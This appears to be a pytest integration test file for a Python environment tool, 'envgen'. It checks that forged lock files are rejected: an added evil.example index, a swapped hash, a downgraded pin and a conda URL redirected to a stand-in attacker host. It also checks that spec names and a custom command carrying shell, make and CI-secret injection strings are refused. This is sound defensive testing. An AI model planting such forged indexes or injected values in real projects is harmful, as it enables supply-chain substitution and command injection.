"""Forged locks with recomputed content hashes fail `check`, `lock --check` and `build`.

A committed lock is untrusted: anyone who edits it can recompute its `content-hash`. Each
forgery from issue 16 (an added evil index plus an extra hashed package, a swapped compute index,
a downgraded transitive pin, a swapped well-formed hash, a conda package moved to another channel)
is written the way an attacker would, with the header's content hash recomputed, and each must
fail all three commands with the forged lines named. Everything runs through the real CLI
against the loopback index and conda channel (tests/support/).
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess  # noqa: TID251 - tests run envgen as a real process
from collections.abc import Callable
from pathlib import Path
from typing import Final

import pytest

from envgen.build.orchestrate import build_variants
from envgen.errors import BuildError
from envgen.infra.settings import Settings
from envgen.model.matrix import load_matrix
from envgen.model.spec import load_spec
from tests.support.cli import run_cli
from tests.support.conda_channel import CondaChannel, write_channel
from tests.support.fixtures import ServedIndex, ServerFactory, clean_tool_env

pytestmark = pytest.mark.integration

MINI: Final = Path(__file__).parents[1] / "data" / "matrix-mini"
ROOT: Final = Path(__file__).parents[2]
PIP_SPEC: Final = (
    'name: hostile\npython: "3.11"\ntorch: "2.1.0"\n'
    'accelerators: [cpu]\nmanagers: [pip]\npip: ["numpy<2"]\n'
)
CONDA_SPEC: Final = (
    'name: hostile\npython: "3.11"\ntorch: "2.1.0"\naccelerators: [cpu]\nmanagers: [conda]\n'
)
HASH_LINE: Final = re.compile(r"^# content-hash: sha256:[0-9a-f]{64}$", re.MULTILINE)


def envgen(args: list[str], env: dict[str, str], cwd: Path) -> tuple[int, str]:
    return run_cli(args, env, cwd, timeout=300)


def forge(path: Path, edit: Callable[[str], str]) -> None:
    """Edit a lock's body and recompute its content hash, as an attacker would."""
    text = path.read_text()
    head, _, body = text.partition("\n# content-hash: ")
    body = body.split("\n", 1)[1]
    new = edit(body)
    assert new != body
    digest = hashlib.sha256(new.encode()).hexdigest()
    path.write_text(f"{head}\n# content-hash: sha256:{digest}\n{new}")
    assert HASH_LINE.search(path.read_text())


def line_of(path: Path, needle: str) -> int:
    """The 1-based number of the first line of `path` that contains `needle`."""
    return next(n for n, line in enumerate(path.read_text().splitlines(), 1) if needle in line)


@pytest.fixture(scope="module")
def locked(
    tmp_path_factory: pytest.TempPathFactory,
    pytorch_index: ServedIndex,
    conda_channel: CondaChannel,
) -> tuple[Path, dict[str, str]]:
    """Two projects (pip, conda) locked once; each test forges a copy."""
    base = tmp_path_factory.mktemp("hostile")
    alias = base / "channels"
    alias.mkdir()
    (alias / "pytorch").symlink_to(conda_channel.path)
    write_channel(alias / "nvidia", "nvidia", [])
    env = clean_tool_env(base)
    env.update(
        ENVGEN_CACHE_DIR=str(base / "cache"),
        ENVGEN_MATRIX=str(MINI),
        ENVGEN_PYTORCH_INDEX=pytorch_index.root_url,
        ENVGEN_PYPI_INDEX=pytorch_index.pypi_url,
        ENVGEN_CONDA_CHANNEL_ALIAS=alias.as_uri(),
        PYTHONPATH=str(ROOT),
    )
    for name, spec in (("pip", PIP_SPEC), ("conda", CONDA_SPEC)):
        proj = base / name
        proj.mkdir()
        (proj / "project.yaml").write_text(spec)
        code, out = envgen(["lock", "project.yaml"], env, proj)
        assert code == 0, out
        code, out = envgen(["check", "project.yaml"], env, proj)
        assert (code, out) == (0, "locks in environments are up to date (1 variant(s))\n"), out
    return base, env


def copy_of(locked: tuple[Path, dict[str, str]], name: str, tmp_path: Path) -> Path:
    proj = tmp_path / name
    shutil.copytree(locked[0] / name, proj, symlinks=True)
    return proj


def assert_all_fail(proj: Path, env: dict[str, str], problems: list[str]) -> None:
    """`check`, `lock --check` and `build` each fail, naming exactly `problems`."""
    out_dir = proj / "environments"
    listed = "".join(f"  - cpu/{p}\n" for p in problems)
    want = (
        f"error: {len(problems)} problem(s) in {out_dir.relative_to(proj)}:\n{listed}"
        "  hint: a lock differs from what its inputs resolve to: review who changed it; "
        "`envgen lock --upgrade` re-resolves it from the spec\n"
    )
    for args in (["check", "project.yaml"], ["lock", "project.yaml", "--check"]):
        code, out = envgen(args, env, proj)
        assert (code, out) == (9, want), out
    code, out = envgen(["build", "project.yaml", "--no-smoke"], env, proj)
    listed = "".join(f"  - {p}\n" for p in problems)
    assert (code, out) == (
        7,
        "cpu: verifying the lock\n"  # the build's progress line (envgen.cli.progress)
        f"error: {(out_dir / 'cpu').relative_to(proj)}: the lock is not what its inputs resolve to (edited by "
        f"hand?); {len(problems)} problem(s):\n{listed}"
        "  hint: review the change, then run `envgen lock --variant cpu --upgrade`\n",
    ), out
    assert not (out_dir / "cpu" / ".env").exists()


def test_added_index_and_extra_hashed_package(
    locked: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    proj = copy_of(locked, "pip", tmp_path)
    lock = proj / "environments" / "cpu" / "requirements.txt"
    evil = "six==1.17.0 \\\n    --hash=sha256:" + "ab" * 32 + "\n"
    forge(
        lock,
        lambda body: (
            body.replace(
                "--extra-index-url https://pypi.org/simple\n",
                "--extra-index-url https://pypi.org/simple\n"
                "--extra-index-url http://evil.example/simple\n",
            )
            + evil
        ),
    )
    index = line_of(lock, "evil.example")
    added = line_of(lock, "six==1.17.0")
    assert_all_fail(
        proj,
        locked[1],
        [
            f"requirements.txt: line {index}: `--extra-index-url http://evil.example/simple` is "
            "not an index line the spec and settings write (they write: "
            "`--index-url https://download.pytorch.org/whl/cpu`, "
            "`--extra-index-url https://pypi.org/simple`)",
            f"requirements.txt: line {added}: `six==1.17.0` is not part of what its inputs "
            "resolve to (an added package)",
        ],
    )


def test_swapped_compute_index(locked: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    proj = copy_of(locked, "pip", tmp_path)
    lock = proj / "environments" / "cpu" / "requirements.txt"
    forge(lock, lambda body: body.replace("/whl/cpu\n", "/whl/cu130\n"))
    index = line_of(lock, "/whl/cu130")
    assert_all_fail(
        proj,
        locked[1],
        [
            f"requirements.txt: line {index}: `--index-url https://download.pytorch.org/whl/cu130`"
            " is not an index line the spec and settings write (they write: "
            "`--index-url https://download.pytorch.org/whl/cpu`, "
            "`--extra-index-url https://pypi.org/simple`)",
            "requirements.txt: `--index-url https://download.pytorch.org/whl/cpu` is missing: "
            "the spec and settings write this index line",
        ],
    )


def test_downgraded_transitive_pin(
    locked: tuple[Path, dict[str, str]], tmp_path: Path, pytorch_index: ServedIndex
) -> None:
    proj = copy_of(locked, "pip", tmp_path)
    lock = proj / "environments" / "cpu" / "requirements.txt"
    (old,) = (f for f in pytorch_index.files_for("pypi", "filelock") if f.version == "3.9.0")
    text = lock.read_text()
    (current,) = re.findall(
        r"^filelock==3\.13\.1 \\\n    --hash=sha256:([0-9a-f]{64})$", text, re.MULTILINE
    )
    # The older release, with its real hash: every line is well formed.
    forge(
        lock,
        lambda body: body.replace("filelock==3.13.1", "filelock==3.9.0").replace(
            current, old.sha256
        ),
    )
    assert_all_fail(
        proj,
        locked[1],
        [
            f"requirements.txt: line {line_of(lock, 'filelock==')}: filelock==3.9.0 but its "
            "inputs resolve to filelock==3.13.1"
        ],
    )


def test_swapped_well_formed_hash(
    locked: tuple[Path, dict[str, str]], tmp_path: Path, pytorch_index: ServedIndex
) -> None:
    proj = copy_of(locked, "pip", tmp_path)
    lock = proj / "environments" / "cpu" / "requirements.txt"
    text = lock.read_text()
    (current,) = re.findall(
        r"^filelock==3\.13\.1 \\\n    --hash=sha256:([0-9a-f]{64})$", text, re.MULTILINE
    )
    # The hash of a real file of another project: 64 hex digits, served, but not for this pin.
    other = pytorch_index.files_for("pypi", "typing-extensions")[0].sha256
    forge(lock, lambda body: body.replace(current, other))
    assert_all_fail(
        proj,
        locked[1],
        [
            f"requirements.txt: line {line_of(lock, other)}: --hash=sha256:{other} is not the "
            "hash of any file the index serves for filelock==3.13.1"
        ],
    )


def test_plain_lock_names_a_resealed_downgraded_pin(
    locked: tuple[Path, dict[str, str]], tmp_path: Path, pytorch_index: ServedIndex
) -> None:
    """Not "up to date": a plain `envgen lock` re-resolves a current lock it has not seen (issue
    21 item 6), names what `check` names, and leaves the files as they are (exit 9)."""
    proj = copy_of(locked, "pip", tmp_path)
    lock = proj / "environments" / "cpu" / "requirements.txt"
    text = lock.read_text()
    (current,) = re.findall(
        r"^filelock==3\.13\.1 \\\n    --hash=sha256:([0-9a-f]{64})$", text, re.MULTILINE
    )
    (old,) = (f for f in pytorch_index.files_for("pypi", "filelock") if f.version == "3.9.0")
    # The older release with its real hash, resealed: every line well formed, the header intact.
    forge(
        lock,
        lambda body: body.replace("filelock==3.13.1", "filelock==3.9.0").replace(
            current, old.sha256
        ),
    )
    before = lock.read_bytes()
    code, out = envgen(["lock", "project.yaml"], locked[1], proj)
    assert code == 9, out
    assert "up to date" not in out
    assert (
        f"  - cpu/requirements.txt: line {line_of(lock, 'filelock==')}: filelock==3.9.0 but its "
        "inputs resolve to filelock==3.13.1\n"
    ) in out, out
    assert out.endswith(
        "  hint: a lock differs from what its inputs resolve to: review who changed it; "
        "`envgen lock --upgrade` re-resolves it from the spec\n"
    ), out
    assert lock.read_bytes() == before


def test_plain_lock_names_a_swapped_well_formed_hash(
    locked: tuple[Path, dict[str, str]], tmp_path: Path, pytorch_index: ServedIndex
) -> None:
    proj = copy_of(locked, "pip", tmp_path)
    lock = proj / "environments" / "cpu" / "requirements.txt"
    (current,) = re.findall(
        r"^filelock==3\.13\.1 \\\n    --hash=sha256:([0-9a-f]{64})$", lock.read_text(), re.MULTILINE
    )
    other = pytorch_index.files_for("pypi", "typing-extensions")[0].sha256
    forge(lock, lambda body: body.replace(current, other))
    before = lock.read_bytes()
    code, out = envgen(["lock", "project.yaml"], locked[1], proj)
    assert (code, out) == (
        9,
        "error: 1 problem(s) in environments:\n"
        f"  - cpu/requirements.txt: line {line_of(lock, other)}: --hash=sha256:{other} is not the "
        "hash of any file the index serves for filelock==3.13.1\n"
        "  hint: a lock differs from what its inputs resolve to: review who changed it; "
        "`envgen lock --upgrade` re-resolves it from the spec\n",
    ), out
    assert lock.read_bytes() == before
    # --upgrade re-resolves from the spec, as the hint says.
    code, out = envgen(["lock", "project.yaml", "--upgrade"], locked[1], proj)
    assert code == 0, out
    assert other not in lock.read_text()


def test_plain_lock_verifies_an_unseen_lock_once(
    locked: tuple[Path, dict[str, str]],
    tmp_path: Path,
    pytorch_index: ServedIndex,
    faulty_server: ServerFactory,
) -> None:
    """A lock this machine has not made or verified (a fresh clone: another cache) is re-resolved
    once; then its stamp in the user's cache makes the next plain lock free. Without an index
    and a warm cache it is a warning, not a failure."""
    proj = copy_of(locked, "pip", tmp_path)
    env = dict(locked[1], ENVGEN_CACHE_DIR=str(tmp_path / "fresh-cache"))
    code, out = envgen(["lock", "project.yaml"], env, proj)
    assert (code, out) == (0, "cpu: up to date (its inputs still resolve to it)\n"), out
    pytorch_index.clear_requests()
    code, out = envgen(["lock", "project.yaml"], env, proj)
    assert (code, out) == (0, "cpu: up to date (no resolver work)\n"), out
    assert pytorch_index.requests == []

    down = faulty_server()
    down.add_fault("*", status=404)  # answers at once (uv retries a refused connection ~7 s)
    offline = dict(
        env,
        ENVGEN_CACHE_DIR=str(tmp_path / "cold-cache"),
        ENVGEN_PYTORCH_INDEX=f"{down.url}/whl",
        ENVGEN_PYPI_INDEX=f"{down.url}/pypi/simple",
    )
    code, out = envgen(["lock", "project.yaml"], offline, proj)
    assert code == 0, out
    assert out.startswith(
        "warning: cpu: up to date by its input hash, but not checked against a re-resolution ("
    ), out
    assert out.endswith(
        "); `envgen check` verifies it\ncpu: up to date (by its input hash; not re-resolved)\n"
    ), out


def test_conda_package_from_another_channel(
    locked: tuple[Path, dict[str, str]], tmp_path: Path
) -> None:
    proj = copy_of(locked, "conda", tmp_path)
    lock = proj / "environments" / "cpu" / "conda-lock.yml"
    real = "https://conda.anaconda.org/pytorch/linux-64/numpy-1.26.4-py311h5f9d8c6_0.tar.bz2"
    evil = "http://evil.example/pytorch/linux-64/numpy-1.26.4-py311h5f9d8c6_0.tar.bz2"
    forge(lock, lambda body: body.replace(real, evil))
    assert_all_fail(
        proj,
        locked[1],
        [
            f"conda-lock.yml: line {line_of(lock, evil)}: `url: {evil}` is not what its inputs "
            f"solve to (they give `url: {real}`)"
        ],
    )


# --- hostile names: the spec path and ENVGEN_CUSTOM_COMMAND (issue 16 item 4) -----------------
NAME_SPEC: Final = 'name: p\npython: "3.11"\ntorch: "2.1.0"\naccelerators: [cpu]\nmanagers: [pip]\n'


def names_env(tmp_path: Path) -> dict[str, str]:
    env = clean_tool_env(tmp_path)
    env.update(ENVGEN_MATRIX=str(MINI), PYTHONPATH=str(ROOT))
    return env


@pytest.mark.parametrize(
    ("name", "fixed"),
    [
        ("p;touch X;.yaml", "p_touch_X_.yaml"),
        ("$(shell touch X).yaml", "__shell_touch_X_.yaml"),
        ("${{ secrets.TOKEN }}.yaml", "____secrets.TOKEN___.yaml"),
    ],
)
def test_a_spec_name_make_or_a_shell_would_expand_is_refused(
    name: str, fixed: str, tmp_path: Path
) -> None:
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / name).write_text(NAME_SPEC)
    env = names_env(tmp_path)
    rest = (
        "would be written into it unquoted, and holds characters other than letters, digits "
        "and . _ + - / (make and the shell would expand them); rename the spec, e.g. to "
    )
    code, out = envgen(["lock", name, "--pins-only"], env, proj)
    assert (code, out) == (
        3,
        f"error: environments/Makefile: the spec path '../{name}' {rest}'../{fixed}'\n",
    )
    for engine, where in (("github", ".github/workflows/envgen.yml"), ("gitlab", ".gitlab-ci.yml")):
        code, out = envgen(["ci", engine, name], env, proj)
        assert (code, out) == (3, f"error: {where}: the spec path '{name}' {rest}'{fixed}'\n")
    assert sorted(p.name for p in proj.iterdir()) == [name]  # nothing written, nothing run


def test_make_runs_only_envgen_on_an_accepted_name(tmp_path: Path) -> None:
    """The generated Makefile, run by real `make -n`, names the spec as one plain word."""
    proj = tmp_path / "proj"
    proj.mkdir()
    name = "paper_v1.2+cpu-only.yaml"
    (proj / name).write_text(NAME_SPEC)
    code, out = envgen(["lock", name, "--pins-only"], names_env(tmp_path), proj)
    assert code == 0, out
    make = shutil.which("make")
    assert make is not None
    proc = subprocess.run(
        [make, "-n", "lock", "check", "env-cpu"],
        cwd=proj / "environments",
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert (proc.returncode, proc.stdout, proc.stderr) == (
        0,
        f"envgen lock ../{name} --out .\n"
        f"envgen check ../{name} --out .\n"
        # env-<v> locks first (issue 13 item 6), then builds
        f"envgen lock ../{name} --out . --variant cpu\n"
        f"envgen build ../{name} --out . --variant cpu\n",
        "",
    )
    assert sorted(p.name for p in proj.iterdir()) == ["environments", name]


@pytest.mark.parametrize("command", ["make lock\nevil:\n\ttouch X", "make lock\r", "a\x1b[2Jb"])
def test_custom_command_with_a_control_character_is_refused(command: str, tmp_path: Path) -> None:
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "project.yaml").write_text(NAME_SPEC)
    env = dict(names_env(tmp_path), ENVGEN_CUSTOM_COMMAND=command)
    bad = next(c for c in command if ord(c) < 0x20)
    code, out = envgen(["lock", "project.yaml", "--pins-only"], env, proj)
    assert (code, out) == (
        3,
        f"error: ENVGEN_CUSTOM_COMMAND: {command!r} holds a control character ({bad!r}); it is "
        "written into a comment line of every generated file and must be one line; give a "
        "one-line command without control characters\n",
    )
    assert sorted(p.name for p in proj.iterdir()) == ["project.yaml"]


def test_even_with_stale_locks_allowed_a_build_uses_no_foreign_index_or_channel(
    locked: tuple[Path, dict[str, str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`build_variants(allow_stale=True)` skips re-resolution, never the index and channel guard."""
    for name, value in locked[1].items():
        if name.startswith("ENVGEN_"):
            monkeypatch.setenv(name, value)
    pip = copy_of(locked, "pip", tmp_path)
    lock = pip / "environments" / "cpu" / "requirements.txt"
    forge(lock, lambda body: "--find-links http://evil.example/wheels\n" + body)
    conda = copy_of(locked, "conda", tmp_path)
    explicit = conda / "environments" / "cpu" / "conda-linux-64.lock"
    real = "https://conda.anaconda.org/pytorch/linux-64/numpy-1.26.4-py311h5f9d8c6_0.tar.bz2"
    evil = "http://evil.example/pytorch/linux-64/numpy-1.26.4-py311h5f9d8c6_0.tar.bz2"
    forge(explicit, lambda body: body.replace(real, evil))
    cases = [
        (
            pip,
            "requirements.txt: line 6: `--find-links http://evil.example/wheels` is not an index "
            "line the spec and settings write (they write: `--index-url "
            "https://download.pytorch.org/whl/cpu`, `--extra-index-url https://pypi.org/simple`)",
        ),
        (
            conda,
            f"conda-linux-64.lock: line {line_of(explicit, evil)}: {evil} is not on a channel of "
            "the spec (https://conda.anaconda.org/pytorch)",
        ),
    ]
    for proj, problem in cases:
        out = proj / "environments"
        with pytest.raises(BuildError) as info:
            build_variants(
                load_spec(proj / "project.yaml"),
                load_matrix(MINI),
                out,
                smoke=False,
                allow_stale=True,
                settings=Settings.from_environ(os.environ),
            )
        assert str(info.value) == (
            f"{out / 'cpu'}: refusing indexes and channels the spec does not name:\n"
            f"  - {problem}\n"
            "  hint: run `envgen lock --variant cpu --upgrade`"
        )
        assert not (out / "cpu" / ".env").exists()
